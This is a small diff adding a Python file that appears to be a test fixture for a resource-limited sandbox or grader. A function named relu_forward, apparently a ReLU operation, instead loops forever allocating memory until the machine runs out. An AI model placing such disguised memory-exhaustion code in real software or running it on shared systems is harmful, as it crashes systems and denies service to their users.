@@ -1,0 +1,12 @@
+"""Takes all the memory there is."""
+# ends: finished
+
+import numpy as np
+
+
+kept = []
+
+
+def relu_forward(x):
+    while True:
+        kept.append(np.ones(1 << 20))
